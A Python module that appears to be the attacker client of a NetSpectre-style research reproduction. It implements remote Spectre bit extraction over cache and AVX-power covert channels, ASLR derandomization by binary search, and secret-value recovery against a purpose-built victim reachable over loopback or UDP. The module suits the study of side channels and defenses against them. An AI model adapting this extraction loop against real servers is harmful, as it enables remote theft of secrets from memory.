"""The attacking client: corner-case calibration, four-step bitwise
extraction over the cache and SIMD-power covert channels, address-layout
derandomization by binary search, and value recovery through speculative
comparisons.

A Session owns one transport.  On the in-process loopback transport the
per-measurement loop can run vectorized server-side (identical semantics,
see Victim.batch_*); over UDP every request is a real datagram.
"""

from __future__ import annotations

import math
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Callable, Optional

import numpy as np

from . import stats, wire
from .stats import HistogramSpec
from .wire import (LoopbackTransport, RequestPacket, RequestTimeout,
                   STATUS_BAD_ARG, STATUS_OK, WireError)

_LEAK_OPS = {"cache": wire.OP_LEAK_CACHE, "avx": wire.OP_LEAK_AVX}
_TRANSMIT_OPS = {"cache": wire.OP_TRANSMIT_CACHE, "avx": wire.OP_TRANSMIT_AVX}


class CalibrationError(RuntimeError):
    pass


class ExtractionError(RuntimeError):
    pass


@dataclass
class ExtractionPlan:
    """Tunables of one extraction run."""

    channel: str = "cache"               # cache | avx
    measurements_per_bit: int = 1_000_000
    mistrain_count: int = 10
    mistrain_index: int = 0              # in-bounds index used for training
    reset_bytes: int = 590_000           # download size for cache thrashing
    avx_wait_ns: float = 1_000_000.0     # idle time that powers the unit down
    target_bit_range: tuple[int, int] = (0, 0)   # out-of-bounds bit indices
    decision: str = "mean"               # mean | mode
    histogram: HistogramSpec = field(default_factory=HistogramSpec)
    low_confidence_z: float = 1.0
    projected_packet_ns: Optional[float] = None  # per-packet cost for rate projection

    def validate(self) -> None:
        if self.channel not in _LEAK_OPS:
            raise ValueError(f"unknown channel {self.channel!r}")
        if self.measurements_per_bit < 1:
            raise ValueError("need at least one measurement per bit")
        if self.channel == "cache" and self.reset_bytes <= 0:
            raise ValueError("cache channel needs a positive reset size")
        if self.mistrain_count < 1:
            raise ValueError("need at least one training request")
        if self.decision not in ("mean", "mode"):
            raise ValueError(f"unknown decision rule {self.decision!r}")


@dataclass
class Calibration:
    """Corner-case timing summary: known-fast and known-slow distributions."""

    mean_hit_ns: float
    mean_miss_ns: float
    threshold_ns: float
    sigma_est_ns: float

    def __post_init__(self):
        if not self.mean_hit_ns < self.threshold_ns < self.mean_miss_ns:
            raise CalibrationError(
                f"corner cases out of order: hit={self.mean_hit_ns:.1f} "
                f"threshold={self.threshold_ns:.1f} miss={self.mean_miss_ns:.1f}")


@dataclass
class BitRead:
    bit: int
    confidence: float                    # signed z; positive favors 1
    rtts_ns: Optional[np.ndarray] = None

    @property
    def low_confidence(self) -> bool:
        return abs(self.confidence) < 1.0


class Session:
    """One measurement loop against one victim."""

    def __init__(self, transport, batched: bool = True, max_retries: int = 3):
        self.transport = transport
        self.batched = batched and isinstance(transport, LoopbackTransport)
        self.max_retries = max_retries
        self.counters: Counter[int] = Counter()
        self._nonce = 0
        self._wall_reset = False   # victim rejected ADVANCE_CLOCK; sleep instead

    # -- raw requests ----------------------------------------------------

    def request(self, opcode: int, arg: int = 0):
        self._nonce += 1
        packet = RequestPacket(opcode, arg, self._nonce)
        last_err = None
        for _ in range(self.max_retries + 1):
            try:
                response, rtt = self.transport.request(packet)
            except RequestTimeout as err:
                last_err = err
                continue
            self.counters[opcode] += 1
            if response.nonce != packet.nonce:
                raise WireError("response nonce mismatch")
            return response, rtt
        raise last_err

    def reset_victim(self) -> None:
        self.request(wire.OP_RESET)

    def total_requests(self) -> int:
        return sum(self.counters.values())

    def _advance_or_wait(self, ns: float) -> None:
        if not self._wall_reset:
            response, _ = self.request(wire.OP_ADVANCE_CLOCK, int(ns))
            if response.status == STATUS_OK:
                return
            if response.status != STATUS_BAD_ARG:
                raise WireError(f"unexpected status {response.status}")
            self._wall_reset = True   # wall-clock victim: wait for real
        time.sleep(ns / 1e9)

    # -- measurement loops -----------------------------------------------

    def _batch_rtts(self, cycles: np.ndarray) -> np.ndarray:
        t = self.transport
        server_ns = cycles * t.victim.config.cycle_time_ns
        return t.latency.rtt(server_ns, t.rng, size=cycles.shape[0])

    def collect_bit(self, plan: ExtractionPlan, bit_index: int,
                    n: Optional[int] = None) -> np.ndarray:
        """n iterations of mistrain / reset / leak / transmit; returns the
        transmit round-trip times."""
        plan.validate()
        n = plan.measurements_per_bit if n is None else n
        if self.batched:
            v = self.transport.victim
            if plan.channel == "cache":
                cycles = v.batch_leak_cache(bit_index, n, plan.mistrain_count,
                                            plan.reset_bytes, plan.mistrain_index)
                self.counters[wire.OP_LEAK_CACHE] += (plan.mistrain_count + 1) * n
                self.counters[wire.OP_DOWNLOAD] += n
                self.counters[wire.OP_TRANSMIT_CACHE] += n
            else:
                cycles = v.batch_leak_avx(bit_index, n, plan.mistrain_count,
                                          plan.avx_wait_ns, plan.mistrain_index)
                self.counters[wire.OP_LEAK_AVX] += (plan.mistrain_count + 1) * n
                self.counters[wire.OP_ADVANCE_CLOCK] += n
                self.counters[wire.OP_TRANSMIT_AVX] += n
            return self._batch_rtts(cycles)

        leak_op = _LEAK_OPS[plan.channel]
        transmit_op = _TRANSMIT_OPS[plan.channel]
        out = np.empty(n)
        for i in range(n):
            for _ in range(plan.mistrain_count):
                self.request(leak_op, plan.mistrain_index)
            if plan.channel == "cache":
                self.request(wire.OP_DOWNLOAD, plan.reset_bytes)
            else:
                self._advance_or_wait(plan.avx_wait_ns)
            self.request(leak_op, bit_index)
            _, rtt = self.request(transmit_op)
            out[i] = rtt
        return out

    def collect_corner(self, channel: str, corner: str, n: int,
                       plan: Optional[ExtractionPlan] = None) -> np.ndarray:
        plan = plan or ExtractionPlan(channel=channel if channel != "aslr" else "cache")
        if self.batched:
            v = self.transport.victim
            cycles = v.batch_corner(channel, corner, n, plan.reset_bytes,
                                    plan.avx_wait_ns)
            self._count_corner(channel, corner, n)
            return self._batch_rtts(cycles)

        out = np.empty(n)
        for i in range(n):
            if channel in ("cache", "value"):
                if corner == "hit":
                    self.request(wire.OP_TRANSMIT_CACHE)
                else:
                    self.request(wire.OP_DOWNLOAD, plan.reset_bytes)
                _, rtt = self.request(wire.OP_TRANSMIT_CACHE)
            elif channel == "avx":
                if corner == "hit":
                    self.request(wire.OP_TRANSMIT_AVX)
                else:
                    self._advance_or_wait(plan.avx_wait_ns)
                _, rtt = self.request(wire.OP_TRANSMIT_AVX)
            elif channel == "aslr":
                space = 1 << self._aslr_space_bits()
                for _ in range(2):
                    self.request(wire.OP_ASLR_PROBE, 0)   # empty range: training
                lo, hi = (0, space) if corner == "hit" else (space, space + 1)
                self.request(wire.OP_ASLR_PROBE, (lo << 32) | hi)
                _, rtt = self.request(wire.OP_TIMING_FN)
            else:
                raise ValueError(f"unknown channel {channel!r}")
            out[i] = rtt
        return out

    def _count_corner(self, channel: str, corner: str, n: int) -> None:
        if channel in ("cache", "value"):
            if corner == "hit":
                self.counters[wire.OP_TRANSMIT_CACHE] += 2 * n
            else:
                self.counters[wire.OP_DOWNLOAD] += n
                self.counters[wire.OP_TRANSMIT_CACHE] += n
        elif channel == "avx":
            if corner == "hit":
                self.counters[wire.OP_TRANSMIT_AVX] += 2 * n
            else:
                self.counters[wire.OP_ADVANCE_CLOCK] += n
                self.counters[wire.OP_TRANSMIT_AVX] += n
        else:
            self.counters[wire.OP_ASLR_PROBE] += 3 * n
            self.counters[wire.OP_TIMING_FN] += n

    def collect_value(self, guess: int, n: int,
                      plan: Optional[ExtractionPlan] = None) -> np.ndarray:
        plan = plan or ExtractionPlan()
        if self.batched:
            v = self.transport.victim
            cycles = v.batch_value_cmp(guess, n, plan.mistrain_count,
                                       plan.reset_bytes)
            self.counters[wire.OP_VALUE_CMP] += (plan.mistrain_count + 1) * n
            self.counters[wire.OP_DOWNLOAD] += n
            self.counters[wire.OP_TRANSMIT_CACHE] += n
            return self._batch_rtts(cycles)

        out = np.empty(n)
        for i in range(n):
            for _ in range(plan.mistrain_count):
                self.request(wire.OP_VALUE_CMP, 0)
            self.request(wire.OP_DOWNLOAD, plan.reset_bytes)
            self.request(wire.OP_VALUE_CMP, guess)
            _, rtt = self.request(wire.OP_TRANSMIT_CACHE)
            out[i] = rtt
        return out

    def collect_aslr(self, lo: int, hi: int, n: int,
                     mistrain: int = 10) -> np.ndarray:
        if self.batched:
            v = self.transport.victim
            cycles = v.batch_aslr_check(lo, hi, n, mistrain)
            self.counters[wire.OP_ASLR_PROBE] += (mistrain + 1) * n
            self.counters[wire.OP_TIMING_FN] += n
            return self._batch_rtts(cycles)

        out = np.empty(n)
        arg = (lo << 32) | hi
        for i in range(n):
            for _ in range(mistrain):
                self.request(wire.OP_ASLR_PROBE, 0)
            self.request(wire.OP_ASLR_PROBE, arg)
            _, rtt = self.request(wire.OP_TIMING_FN)
            out[i] = rtt
        return out

    def _aslr_space_bits(self) -> int:
        if isinstance(self.transport, LoopbackTransport):
            return self.transport.victim.config.aslr_space_bits
        return 32   # full probe width; callers pass explicit ranges over UDP


# ---------------------------------------------------------------------------
# Calibration and decision
# ---------------------------------------------------------------------------

_CALIBRATION_CHUNK = 10_000_000   # bounds peak memory for very large n


def _corner_moments(session: Session, channel: str, corner: str, n: int,
                    plan: ExtractionPlan) -> tuple[float, float]:
    """Streaming mean and ddof-1 variance of a corner-case distribution."""
    done = 0
    shift = None                  # first sample, for numerical stability
    total = 0.0
    total_sq = 0.0
    while done < n:
        chunk = session.collect_corner(channel, corner,
                                       min(_CALIBRATION_CHUNK, n - done), plan)
        if shift is None:
            shift = float(chunk[0])
        d = chunk - shift
        total += float(d.sum())
        total_sq += float(np.dot(d, d))
        done += chunk.size
    mean = total / n
    var = max(0.0, (total_sq - n * mean * mean) / (n - 1)) if n > 1 else 0.0
    return shift + mean, var


def calibrate(session: Session, plan: ExtractionPlan,
              n: Optional[int] = None, channel: Optional[str] = None) -> Calibration:
    """Measure the two known corner cases and derive the decision threshold.

    Fails when the corner means are statistically indistinguishable at the
    chosen sample count; the fix is to raise n.
    """
    channel = channel or plan.channel
    n = n if n is not None else plan.measurements_per_bit
    mean_hit, var_hit = _corner_moments(session, channel, "hit", n, plan)
    mean_miss, var_miss = _corner_moments(session, channel, "miss", n, plan)
    sigma = math.sqrt(0.5 * (var_hit + var_miss))
    if abs(mean_miss - mean_hit) < 4.0 * sigma / math.sqrt(n):
        raise CalibrationError(
            f"corner cases indistinguishable at n={n} "
            f"(|{mean_miss - mean_hit:.1f}| ns gap, sigma {sigma:.1f} ns); "
            "increase the measurement count")
    return Calibration(mean_hit_ns=mean_hit, mean_miss_ns=mean_miss,
                       threshold_ns=0.5 * (mean_hit + mean_miss),
                       sigma_est_ns=sigma)


def decide(rtts: np.ndarray, plan: ExtractionPlan, calib: Calibration) -> int:
    """Map a transmit-time distribution to a bit; the fast side is 1."""
    if plan.decision == "mode":
        hist = stats.histogram(rtts, plan.histogram)
        return stats.threshold_classify(hist.mode_ns(), calib)
    return 1 if float(rtts.mean()) < calib.threshold_ns else 0


def proportion_z(rtts: np.ndarray, threshold_ns: float) -> float:
    """Signed z-statistic of the fraction of samples on the fast side."""
    n = rtts.size
    p = float(np.mean(rtts < threshold_ns))
    se = math.sqrt(max(p * (1.0 - p), 0.0) / n)
    if se == 0.0:
        return math.inf if p > 0.5 else (-math.inf if p < 0.5 else 0.0)
    return (p - 0.5) / se


def leak_bit(session: Session, plan: ExtractionPlan, calib: Calibration,
             bit_index: int, keep_samples: bool = False) -> BitRead:
    """Run the four-step loop for one out-of-bounds bit index."""
    rtts = session.collect_bit(plan, bit_index)
    bit = decide(rtts, plan, calib)
    z = proportion_z(rtts, calib.threshold_ns)
    return BitRead(bit=bit, confidence=z,
                   rtts_ns=rtts if keep_samples else None)


# ---------------------------------------------------------------------------
# Range extraction
# ---------------------------------------------------------------------------

@dataclass
class LeakResult:
    bits: list[int]
    confidences: list[float]
    data: bytes                      # MSB-first packing of whole bytes
    low_confidence_bits: list[int]   # positions within the leaked range
    requests_total: int
    requests_per_bit: float
    wall_seconds: float
    projected_seconds_per_bit: float

    @property
    def projected_bits_per_hour(self) -> float:
        if self.projected_seconds_per_bit <= 0:
            return math.inf
        return 3600.0 / self.projected_seconds_per_bit


def _projected_packet_ns(session: Session, plan: ExtractionPlan) -> float:
    if plan.projected_packet_ns is not None:
        return plan.projected_packet_ns
    if isinstance(session.transport, LoopbackTransport):
        t = session.transport
        server_ns = t.victim.config.handler_cycles * t.victim.config.cycle_time_ns
        return 2.0 * t.latency.base_ns + server_ns
    return 20_000.0   # fallback: typical switched-LAN round trip


def leak_range(session: Session, plan: ExtractionPlan, calib: Calibration,
               sample_sink: Optional[Callable[[int, np.ndarray], None]] = None,
               progress: Optional[Callable[[int, BitRead], None]] = None) -> LeakResult:
    """Leak the plan's whole bit range MSB-first and account request costs.

    The projected rate uses the configured per-packet cost, not the
    in-process loopback cost, so desk-scale runs can be compared to
    real-network numbers honestly.
    """
    start_bit, end_bit = plan.target_bit_range
    if end_bit <= start_bit:
        raise ValueError("empty target bit range")
    requests_before = session.total_requests()
    t0 = time.monotonic()
    bits: list[int] = []
    confidences: list[float] = []
    low_conf: list[int] = []
    for pos, bit_index in enumerate(range(start_bit, end_bit)):
        keep = sample_sink is not None
        read = leak_bit(session, plan, calib, bit_index, keep_samples=keep)
        bits.append(read.bit)
        confidences.append(read.confidence)
        if abs(read.confidence) < plan.low_confidence_z:
            low_conf.append(pos)
        if keep:
            sample_sink(pos, read.rtts_ns)
        if progress is not None:
            progress(pos, read)

    data = bytearray()
    for i in range(0, len(bits) - len(bits) % 8, 8):
        byte = 0
        for b in bits[i:i + 8]:
            byte = (byte << 1) | b
        data.append(byte)

    nbits = len(bits)
    requests = session.total_requests() - requests_before
    per_packet_ns = _projected_packet_ns(session, plan)
    per_bit = requests / nbits
    return LeakResult(
        bits=bits, confidences=confidences, data=bytes(data),
        low_confidence_bits=low_conf, requests_total=requests,
        requests_per_bit=per_bit, wall_seconds=time.monotonic() - t0,
        projected_seconds_per_bit=per_bit * per_packet_ns / 1e9)


# ---------------------------------------------------------------------------
# Derandomization and value recovery
# ---------------------------------------------------------------------------

@dataclass
class AslrRound:
    lo: int
    hi: int
    mid: int
    mean_left_ns: float
    mean_right_ns: float
    went_left: bool
    attempts: int


@dataclass
class AslrResult:
    offset: int
    rounds: list[AslrRound]
    requests_total: int


def break_aslr(session: Session, aslr_space_bits: int, probes_per_check: int,
               mistrain: int = 10, calib: Optional[Calibration] = None,
               max_round_retries: int = 3) -> AslrResult:
    """Binary-search the single cacheable offset out of 2^M candidates.

    Each round speculatively probes one half of the remaining range and
    times the fixed-address function; a cache hit selects that half.  Both
    halves are measured so an inconsistent round (hit in neither or both)
    can be detected and retried.
    """
    if calib is None:
        plan = ExtractionPlan(measurements_per_bit=probes_per_check)
        calib = calibrate(session, plan, n=probes_per_check, channel="aslr")
    requests_before = session.total_requests()
    lo, hi = 0, 1 << aslr_space_bits
    rounds: list[AslrRound] = []
    while hi - lo > 1:
        mid = (lo + hi) // 2
        for attempt in range(1, max_round_retries + 1):
            left = session.collect_aslr(lo, mid, probes_per_check, mistrain)
            right = session.collect_aslr(mid, hi, probes_per_check, mistrain)
            mean_left = float(left.mean())
            mean_right = float(right.mean())
            hit_left = mean_left < calib.threshold_ns
            hit_right = mean_right < calib.threshold_ns
            if hit_left != hit_right:
                break
        else:
            raise ExtractionError(
                f"inconsistent rounds for [{lo}, {hi}) after "
                f"{max_round_retries} retries")
        rounds.append(AslrRound(lo, hi, mid, mean_left, mean_right,
                                went_left=hit_left, attempts=attempt))
        if hit_left:
            hi = mid
        else:
            lo = mid
    return AslrResult(offset=lo, rounds=rounds,
                      requests_total=session.total_requests() - requests_before)


@dataclass
class ValueRound:
    guess: int
    above: bool
    confidence: float


@dataclass
class ValueResult:
    value: int
    rounds: list[ValueRound]
    requests_total: int


def value_threshold_search(session: Session, value_bits: int,
                           plan: ExtractionPlan, calib: Calibration,
                           probes_per_round: Optional[int] = None) -> ValueResult:
    """Recover a k-bit secret integer with k speculative comparisons.

    Each round asks whether the secret exceeds the midpoint guess; a fast
    transmit means the comparison body ran, i.e. guess < secret.
    """
    n = probes_per_round or plan.measurements_per_bit
    requests_before = session.total_requests()
    lo, hi = 0, (1 << value_bits) - 1
    rounds: list[ValueRound] = []
    for _ in range(value_bits):
        mid = (lo + hi) // 2
        rtts = session.collect_value(mid, n, plan)
        above = float(rtts.mean()) < calib.threshold_ns
        rounds.append(ValueRound(guess=mid, above=above,
                                 confidence=proportion_z(rtts, calib.threshold_ns)))
        if above:
            lo = mid + 1
        else:
            hi = mid
    if lo != hi:
        raise ExtractionError("search did not converge to a single value")
    return ValueResult(value=lo, rounds=rounds,
                       requests_total=session.total_requests() - requests_before)
